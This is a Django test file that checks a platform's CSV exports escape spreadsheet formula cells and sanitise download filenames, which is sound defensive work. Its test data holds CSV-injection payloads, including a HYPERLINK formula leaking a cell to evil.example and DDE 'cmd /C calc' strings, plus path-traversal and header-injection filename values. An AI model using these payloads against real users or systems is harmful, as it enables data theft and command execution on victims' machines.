"""Every CSV the platform hands out goes through core.csv: no cell a spreadsheet would run as a formula.

The test walks the URL conf: every back-office page without arguments is opened, and every URL whose name
or path says `csv` or `export` is called (GET, or POST when the view only takes POST) by an agent allowed
to, with site names, MDS names, access-point labels, link labels and requisition references that start
like formulas. A CSV view that writes its own file, or lets one of those cells through, fails here.
"""

import csv
import datetime
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from captive_portal import legal_log
from captive_portal.models import ContentClickDaily, PortalRejection, PortalStatsHourly
from core.csv import FORMULA_START, CsvResponse, csv_text, escape_cell, safe_filename, unescape_cell
from sites.roles import Role
from tests.accueil.factories import ContactRequestFactory
from tests.captive_portal.factories import ContentLinkFactory
from tests.captive_portal.scoping_pages_log import connection_record
from tests.factories import MdsFactory, SiteFactory, ZoneFactory, agent_with_role
from tests.wifi.factories import AccessPointFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-1+1+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
PAYLOADS = [HYPERLINK, CMD, SUM, MINUS, TAB, CR]


def _exports_with_arguments(data: dict) -> dict[str, dict]:
    """URL kwargs for the exports that need them. A new export with arguments must be added here."""
    return {
        "portal_log:export": {"pk": data["search"].pk},
        "mediation_workshops:attendance_csv": {"pk": data["workshop_session"].pk},
    }


def _query(url_name: str) -> list[dict]:
    """Query strings to call an export with (each of its tables)."""
    if url_name == "wifi:report_csv":
        return [{"month": f"{timezone.localdate():%Y-%m}"}]
    if url_name == "portal_stats:stats_csv":
        return [{"table": table} for table in ("daily", "clicks", "refused")]
    return [{}]


def _url_patterns(resolver=None, prefix="", namespace=""):
    for pattern in (resolver or get_resolver()).url_patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            ns = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _url_patterns(pattern, route, ns)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield namespace + pattern.name, route, pattern


def _is_export(name: str, route: str) -> bool:
    return any(word in f"{name} {route}".lower() for word in ("csv", "export"))


@pytest.fixture
def hostile_data():
    """One MDS whose every name a person types starts like a formula, with WiFi, portal and log data."""
    now = timezone.now()
    mds = MdsFactory(name=SUM)
    site = SiteFactory(mds=mds, name=HYPERLINK)
    other_site = SiteFactory(mds=mds, number=2, name=CR)
    zone = ZoneFactory(site=site, name=MINUS)
    aps = [
        AccessPointFactory(site=site, zone=zone, label=CMD, notes=HYPERLINK),
        AccessPointFactory(site=site, label=MINUS, vendor=TAB),
        AccessPointFactory(site=other_site, label=TAB),
    ]
    yesterday = now - datetime.timedelta(days=1)
    for i, ap in enumerate(aps):
        connection_record(ap.site, started_at=yesterday + datetime.timedelta(minutes=i), mac=f"02:00:00:00:00:0{i}",
                          ip=f"10.1.2.{i + 1}", access_point=ap)  # fmt: skip
    hour = yesterday.replace(minute=0, second=0, microsecond=0)
    for s in (site, other_site):
        PortalStatsHourly.objects.create(site=s, hour=hour, connections=3, unique_devices=2, languages={"fr": 3})
        PortalRejection.objects.create(site=s, day=timezone.localdate(yesterday), reason=CMD[:40], count=2)
    link = ContentLinkFactory(label=HYPERLINK)
    ContentClickDaily.objects.create(link=link, site=site, day=timezone.localdate(yesterday), clicks=4)
    ContactRequestFactory(mds=mds, first_name=CMD, last_name=MINUS, message=HYPERLINK, commune=TAB)  # the inbox
    officer = agent_with_role(Role.LEGAL_REQUISITION)
    search = legal_log.log_search(
        agent=officer,
        criteria=legal_log.LogCriteria(starts_at=now - datetime.timedelta(days=2), ends_at=now),
        reference=HYPERLINK,
        reason=SUM,
    )
    # Appointments (accueil): a motif and a person named like formulas.
    from tests.accueil.factories import AppointmentFactory

    AppointmentFactory(motif__mds=mds, motif__name=CMD, site=site, person__mds=mds, person__last_name=MINUS)
    # A workshop session's attendance list (mediation): people registered under names like formulas.
    from tests.mediation.factories import RegistrationFactory, WorkshopFactory, WorkshopSessionFactory

    workshop_session = WorkshopSessionFactory(workshop=WorkshopFactory(mds=mds, title=HYPERLINK, themes=[]), site=site)
    RegistrationFactory(session=workshop_session, first_name=CMD, email="formule@example.org")
    # One-to-one help (mediation): a consenting beneficiary and a partner named like formulas, at a site so named.
    from mediation.activities import accompaniment_log
    from tests.mediation.factories import BeneficiaryFactory, theme

    beneficiary = BeneficiaryFactory(mds=mds, first_name=SUM, last_name=TAB)
    accompaniment_log(actor=agent_with_role(Role.MEDIATOR, mds=mds), site=site, themes=[theme("email")],
                      duration_minutes=30, beneficiary=beneficiary, outcome="redirected", redirected_to=MINUS,
                      commune=CR)  # fmt: skip
    # FEDER (funding): a supplier, a contract, an invoice and a funded server named like formulas.
    from django.conf import settings

    from funding.models import Asset, ItemKind
    from funding.operations import operation_load
    from tests.funding.factories import InvoiceFactory, InvoiceLineFactory, PublicContractFactory, SupplierFactory

    operation_load(path=settings.FEDER_OPERATION_FILE)
    supplier = SupplierFactory(name=HYPERLINK)
    PublicContractFactory(supplier=supplier, subject=SUM)
    line = InvoiceLineFactory(invoice=InvoiceFactory(supplier=supplier, number=CMD), kind=ItemKind.SERVER)
    Asset.objects.create(invoice_line=line, kind=ItemKind.SERVER, label=MINUS, site=site)
    return {"mds": mds, "site": site, "officer": officer, "search": search, "workshop_session": workshop_session}


def _call(client, url: str, queries: list[dict]):
    responses = []
    for query in queries:
        response = client.get(url, query)
        if response.status_code == 405:
            response = client.post(url, query)
        responses.append(response)
    return responses


def _rows(response) -> list[list[str]]:
    body = response.getvalue().decode("utf-8")
    assert body.startswith("\ufeff"), "a CSV for spreadsheets starts with the UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline=""), delimiter=";"))


def test_no_csv_the_platform_serves_holds_a_cell_a_spreadsheet_would_run(hostile_data, client):
    """Every CSV view found in the URL conf is core.csv's, and none writes a cell starting with = + - @ tab or CR."""
    from tests.conftest import sign_in

    admin = agent_with_role(Role.ADMIN)
    kwargs_of = _exports_with_arguments(hostile_data)
    csv_views: dict[str, list] = {}
    for name, route, pattern in _url_patterns():
        export = _is_export(name, route)
        if pattern.pattern.converters and not export:
            continue
        if not export and not route.startswith("backoffice/"):
            continue
        if pattern.pattern.converters:
            assert name in kwargs_of, f"{name} looks like an export with arguments: add it to this test"
        url = reverse(name, kwargs=kwargs_of.get(name, {}))
        for agent in (admin, hostile_data["officer"]):
            responses = _call(sign_in(client, agent), url, _query(name))
            if all(r.status_code not in (403, 404) for r in responses):
                break
        for response in responses:
            if response.get("Content-Type", "").startswith("text/csv"):
                csv_views.setdefault(name, []).append(response)
            elif export:
                pytest.fail(f"{name} answered {response.status_code} {response.get('Content-Type')}, not a CSV")

    assert {"wifi:report_csv", "wifi:inventory_csv", "portal_stats:stats_csv", "portal_log:export"} <= set(csv_views)
    for name, responses in csv_views.items():
        escaped_payloads = 0
        for response in responses:
            assert isinstance(response, CsvResponse), f"{name} writes its CSV without core.csv"
            assert "attachment" in response["Content-Disposition"]
            for row in _rows(response):
                for cell in row:
                    assert not cell.startswith(FORMULA_START), f"{name} writes the live formula {cell!r}"
                    escaped_payloads += cell[1:] in PAYLOADS
        assert escaped_payloads, f"{name}: the hostile names never reached the file, the test proves nothing"


def test_the_admin_export_of_access_points_defuses_formulas_too(hostile_data, signed_in):
    """The admin's "export selected" action sends the same escaped file as the inventory page."""
    admin = agent_with_role(Role.ADMIN, is_staff=True, is_superuser=True)
    response = signed_in(admin).post(
        reverse("admin:wifi_accesspoint_changelist"),
        {"action": "export_as_csv", "_selected_action": [ap.pk for ap in hostile_data["site"].access_points.all()]},
    )
    assert isinstance(response, CsvResponse)
    cells = [cell for row in _rows(response) for cell in row]
    assert "'" + CMD in cells
    assert not any(cell.startswith(FORMULA_START) for cell in cells)


@pytest.mark.parametrize("payload", [*PAYLOADS, "＝1+1", "\n=1+1"])
def test_a_text_cell_that_starts_like_a_formula_is_written_as_text_and_read_back_unchanged(payload):
    """The apostrophe is what spreadsheets show as text; the inventory import takes it off again."""
    written = escape_cell(payload)
    assert written == "'" + payload
    assert unescape_cell(written) == payload


def test_numbers_dates_and_plain_text_are_written_as_they_are():
    assert [escape_cell(v) for v in (-3, 2.5, None, datetime.date(2026, 3, 1), "Borne hall", "l'accueil")] == [
        -3, 2.5, "", "2026-03-01", "Borne hall", "l'accueil"
    ]  # fmt: skip
    assert csv_text([["a;b", 'dit "oui"']]) == '"a;b";"dit ""oui"""\r\n'


@pytest.mark.parametrize(
    ("asked", "given"),
    [("../../etc/passwd", "etc-passwd.csv"), ('a"b\r\nSet-Cookie: x.csv', "a-b-Set-Cookie- x.csv"),
     ("rapport été 2026.csv", "rapport été 2026.csv"), ("", "export.csv")],
)  # fmt: skip
def test_a_download_name_cannot_leave_the_folder_or_break_the_header(asked, given):
    assert safe_filename(asked) == given
